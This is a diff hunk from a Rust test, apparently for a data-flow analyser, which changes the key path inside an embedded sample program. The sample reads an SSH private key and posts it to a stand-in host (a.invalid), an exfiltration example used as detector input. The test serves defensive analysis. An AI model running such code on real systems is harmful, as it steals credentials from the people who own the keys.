@@ -22,7 +22,7 @@ fn built(code: &str) -> Vec<Entry> {
 
 #[test]
 fn what_a_function_puts_into_what_it_is_handed_goes_where_that_goes() {
-    let rust = "fn fill(out: &mut Vec<u8>) { out.extend_from_slice(&std::fs::read(\"/root/.ssh/id_rsa\").unwrap()); }\n\
+    let rust = "fn fill(out: &mut Vec<u8>) { out.extend_from_slice(&std::fs::read(\"/home/a/.ssh/id_rsa\").unwrap()); }\n\
          fn main() { let mut out = Vec::new(); fill(&mut out);\n\
          ureq::post(\"https://a.invalid\").send_bytes(&out); }";
     let python = "import os\nimport requests\n\
